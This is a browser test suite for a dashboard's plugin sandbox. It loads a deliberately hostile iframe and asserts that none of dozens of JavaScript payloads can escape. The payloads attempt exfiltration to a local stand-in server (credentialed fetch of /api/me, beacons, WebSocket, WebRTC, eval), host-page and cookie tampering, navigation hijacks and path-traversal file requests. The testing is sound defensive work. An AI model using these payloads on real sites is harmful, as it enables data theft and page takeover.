"""A frame that does all it can to reach something: nothing leaves, and nothing of the host's pages is touched."""

import json
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Frame, Page

from support.browser import Site, Watched
from support.bundles import make_key
from support.frames import Elsewhere, elsewhere, framing_plugin, page_of

SENDING = {
    "fetch": "fetch(OUT + 'fetch')",
    "fetch_host": (
        "fetch('/api/me', {credentials: 'include'}).then((got) => got.text()).then((text) => fetch(OUT + 'host'))"
    ),
    "xhr": "const asked = new XMLHttpRequest(); asked.open('GET', OUT + 'xhr'); asked.send()",
    "beacon": "navigator.sendBeacon(OUT + 'beacon', 'x')",
    "image": "new Image().src = OUT + 'image'",
    "stylesheet": "add('link', {rel: 'stylesheet', href: OUT + 'stylesheet'})",
    "style": "add('style', {textContent: `body {background: url(${OUT}style)} @import url(${OUT}import);`})",
    "font": "new FontFace('x', `url(${OUT}font)`).load()",
    "script": "add('script', {src: OUT + 'script.js'})",
    "module": "import(OUT + 'module.js')",
    "preload": "add('link', {rel: 'preload', as: 'image', href: OUT + 'preload'})",
    "prefetch": "add('link', {rel: 'prefetch', href: OUT + 'prefetch'})",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://127.0.0.1:' + TCP})",
    "manifest": "add('link', {rel: 'manifest', href: OUT + 'manifest'})",
    "icon": "add('link', {rel: 'icon', href: OUT + 'icon'})",
    "speculation": (
        "add('script', {type: 'speculationrules', textContent: "
        "JSON.stringify({prefetch: [{source: 'list', urls: [OUT + 'spec']}]})})"
    ),
    "websocket": "new WebSocket(OUT.replace('http', 'ws') + 'websocket')",
    "events": "new EventSource(OUT + 'events')",
    "transport": "new WebTransport(OUT.replace('http', 'https') + 'transport')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${OUT}worker')`])))",
    "service_worker": "navigator.serviceWorker.register('app.js')",
    "nested": "add('iframe', {src: OUT + 'nested'})",
    "srcdoc": "add('iframe', {srcdoc: `<img src=${OUT}srcdoc><script>fetch('${OUT}inline')</scr` + `ipt>`})",
    "object": "add('object', {data: OUT + 'object'})",
    "embed": "add('embed', {src: OUT + 'embed'})",
    "video": "add('video', {src: OUT + 'video', poster: OUT + 'poster'})",
    "ping": "const link = add('a', {href: '#x', ping: OUT + 'ping'}); link.click()",
    "popup": "open(OUT + 'popup')",
    "popup_link": "const link = add('a', {href: OUT + 'popup_link', target: '_blank'}); link.click()",
    "form_blank": "const form = add('form', {action: OUT + 'form_blank', target: '_blank'}); form.submit()",
    "form_top": "const form = add('form', {action: OUT + 'form_top', target: '_top'}); form.submit()",
    "base": "add('base', {href: OUT}); new Image().src = 'base'",
    "csp_report": (
        "add('meta', {httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; "
        "report-uri ${OUT}report`}); new Image().src = 'x.png'"
    ),
    "webrtc": (
        "const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${UDP}`}]}); "
        "peer.createDataChannel('x'); peer.createOffer()"
        ".then((offer) => peer.setLocalDescription(offer))"
    ),
    "webrtc_nested": "add('iframe', {srcdoc: `<script src=\"${new URL('webrtc.js', location)}\"></scr` + `ipt>`})",
    "eval": "new Function(`fetch('${OUT}eval')`)()",
    "timer_text": "setTimeout(`fetch('${OUT}timer')`, 0)",
    "javascript_url": "const link = add('a', {href: `javascript:fetch('${OUT}js')`}); link.click()",
    "handler": "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"fetch('${OUT}handler')\">`)",
    "wasm": "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => fetch(OUT + 'wasm'))",
}
TOUCHING = {
    "top_location": "top.location = OUT + 'top'",
    "parent_location": "parent.location.href = OUT + 'parent'",
    "top_document": "top.document.body.innerHTML = 'owned'",
    "parent_document": "parent.document.querySelector('h1').remove()",
    "cookies": "document.cookie = 'owned=1'; report('cookies', document.cookie)",
    "storage": "localStorage.setItem('owned', '1')",
    "databases": "indexedDB.open('owned')",
    "alert": "alert('owned')",
    "confirm": "confirm('owned')",
    "print": "print()",
    "fullscreen": "document.documentElement.requestFullscreen()",
    "history": "top.history.back()",
    "focus": "top.focus()",
    "opener": "opener.location = OUT",
    "sibling_dom": "top.frames[0].document.body.innerHTML = 'owned'",
}
LEAVING = {
    "frames": "for (let n = 0; n < top.frames.length; n++) top.frames[n].location = OUT + 'sibling'",
    "download": "const link = add('a', {href: OUT + 'download', download: 'x'}); link.click()",
    "location": "location = OUT + 'location'",
    "replace": "location.replace(OUT + 'replace')",
    "link": "const link = add('a', {href: OUT + 'link'}); link.click()",
    "form": "const form = add('form', {action: OUT + 'form', method: 'post'}); form.submit()",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${OUT}refresh`})",
    "host_page": "location = '/customers'",
    "host_api": "location = '/api/me'",
    "data": "location = 'data:text/html,<script>parent.postMessage(1)</script>'",
    "window_name": "window.name = 'secret'; location = OUT + 'name'",
}
SCRIPT = """
const OUT = %(out)s, TCP = %(tcp)d, UDP = %(udp)d;
const add = (name, values) => {
  const made = Object.assign(document.createElement(name), values);
  document.body.append(made);
  return made;
};
const report = (name, value) => { if (value) new Image().src = OUT + name; };
globalThis.cases = {%(cases)s};
globalThis.run = (name) => { try { Promise.resolve(cases[name]()).catch(() => {}); } catch {} };
"""
WEBRTC = (
    "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%d'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));"
)


@pytest.fixture(scope="session")
def out() -> Iterator[Elsewhere]:
    with elsewhere() as place:
        yield place


@pytest.fixture(scope="session")
def hostile(site: Site, out: Elsewhere) -> str:
    """The id of a plugin whose frame on the dashboard can do all of it."""
    cases = ", ".join(f"{name}: async () => {{ {code} }}" for name, code in (SENDING | TOUCHING | LEAVING).items())
    script = SCRIPT % {"out": json.dumps(f"{out.http}/"), "tcp": out.tcp, "udp": out.udp, "cases": cases}
    files = page_of(script) | {"webrtc.js": WEBRTC % out.udp}
    site.trust("acme", make_key())
    return site.install(framing_plugin("hostile-frame", files))


@pytest.fixture
def dashboard(hostile: str, out: Elsewhere, sign_in: Callable[..., Page], watched: Callable[[Page], Watched]) -> Page:
    """The dashboard with the frame, drawn; what the browser says on its console is its refusals."""
    page = sign_in("admin")
    watched(page).expect("")
    watched(page).allow_elsewhere()  # what was blocked counts as asked for; what arrived is looked at instead
    page.goto("/")
    assert inside(page).get_by_text("drawn").inner_text() == "drawn"
    out.came.clear()
    return page


def inside(page: Page) -> Frame:
    page.locator("iframe[data-plugin='acme.hostile-frame']").scroll_into_view_if_needed()
    page.locator("iframe[data-plugin='acme.hostile-frame'][data-ready]").wait_for()
    return next(frame for frame in page.frames if "/plugin-ui/acme.hostile-frame/" in frame.url)


def settle(page: Page) -> None:
    """Long enough for what leaves to arrive; in an open page, all of it does (see the control below)."""
    page.wait_for_timeout(1_500)


def test_nothing_leaves_a_frame(dashboard: Page, out: Elsewhere) -> None:
    frame = inside(dashboard)
    for name in SENDING:
        frame.evaluate("(name) => run(name)", name)
    settle(dashboard)
    assert out.came == []
    assert len(dashboard.context.pages) == 1


def test_nothing_of_the_hosts_page_is_touched(site: Site, dashboard: Page, out: Elsewhere) -> None:
    asked: list[str] = []
    dashboard.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    before = dashboard.locator("h1").inner_text()
    for name in TOUCHING:
        inside(dashboard).evaluate("(name) => run(name)", name)
    settle(dashboard)
    assert (dashboard.url, dashboard.locator("h1").inner_text()) == (f"{site.url}/", before)
    assert (asked, out.came) == ([], [])
    assert {cookie["name"] for cookie in dashboard.context.cookies()} <= {"rbsm_session", "rbsm_zone"}
    assert dashboard.evaluate("localStorage.length") == 0


@pytest.mark.parametrize("name", LEAVING)
def test_a_frame_goes_nowhere(site: Site, dashboard: Page, out: Elsewhere, name: str) -> None:
    inside(dashboard).evaluate("(name) => run(name)", name)
    settle(dashboard)
    assert out.came == []
    assert dashboard.url == f"{site.url}/"
    shown = [frame.url for frame in dashboard.frames if frame != dashboard.main_frame]
    assert all("/plugin-ui/" in url or url.startswith("chrome-error:") for url in shown), shown


def test_without_the_cage_they_would_leave(
    hostile: str, out: Elsewhere, sign_in: Callable[..., Page], watched: Callable[[Page], Watched]
) -> None:
    """The control: the same scripts in a page of nobody's do arrive, so the cage is what holds them."""
    page = sign_in("")
    watched(page).expect("")
    watched(page).allow_elsewhere()
    page.goto(f"{out.http}/control")
    page.set_content("<p>open</p>")
    cases = ", ".join(f"{name}: async () => {{ {code} }}" for name, code in SENDING.items())
    page.add_script_tag(
        content=SCRIPT % {"out": json.dumps(f"{out.http}/"), "tcp": out.tcp, "udp": out.udp, "cases": cases}
    )
    out.came.clear()
    open_ones = ("fetch", "beacon", "image", "stylesheet", "script", "nested", "websocket", "webrtc", "eval", "worker")
    for name in open_ones:
        page.evaluate("(name) => run(name)", name)
    settle(page)
    arrived = {came.strip("/").partition(".")[0] for came in out.came}
    assert arrived >= {
        "fetch",
        "beacon",
        "image",
        "stylesheet",
        "script",
        "nested",
        "websocket",
        "udp",
        "eval",
        "worker",
    }


def test_opened_by_itself_it_is_nobodys(site: Site, dashboard: Page, out: Elsewhere) -> None:
    address = dashboard.locator("iframe[data-plugin='acme.hostile-frame']").get_attribute("src")
    page = dashboard.context.new_page()
    page.goto(f"{site.url}{address}")
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("(() => { try { return document.cookie } catch { return 'refused' } })()") == "refused"
    for name in SENDING:
        page.evaluate("(name) => run(name)", name)
    settle(page)
    assert out.came == []


def test_no_other_page_may_frame_it(
    site: Site, dashboard: Page, out: Elsewhere, sign_in: Callable[..., Page], watched: Callable[[Page], Watched]
) -> None:
    address = dashboard.locator("iframe[data-plugin='acme.hostile-frame']").get_attribute("src")
    page = sign_in("")
    watched(page).expect("")
    watched(page).allow_elsewhere()
    page.goto(f"{out.http}/framing")
    page.set_content(f"<iframe src='{site.url}{address}'></iframe>")
    page.wait_for_load_state("networkidle")
    assert "drawn" not in [frame.locator("body").inner_text() for frame in page.frames if frame != page.main_frame]


@pytest.mark.parametrize("change", ["key", "digest", "path", "parent", "code"])
def test_its_files_are_for_those_who_were_shown_it(site: Site, dashboard: Page, change: str) -> None:
    address = str(dashboard.locator("iframe[data-plugin='acme.hostile-frame']").get_attribute("src"))
    _, root, plugin, digest, key, path = address.split("/")
    changed = {
        "key": f"/{root}/{plugin}/{digest}/{'0' * 32}/{path}",
        "digest": f"/{root}/{plugin}/{'0' * 64}/{key}/{path}",
        "path": f"/{root}/{plugin}/{digest}/{key}/other.html",
        "parent": f"/{root}/{plugin}/{digest}/{key}/%2e%2e/code/acme_frame.py",
        "code": f"/{root}/{plugin}/{digest}/{key}/../code/acme_frame.py",
    }[change]
    assert site.api.get(address).status_code == 200
    assert site.api.get(changed).status_code == 404
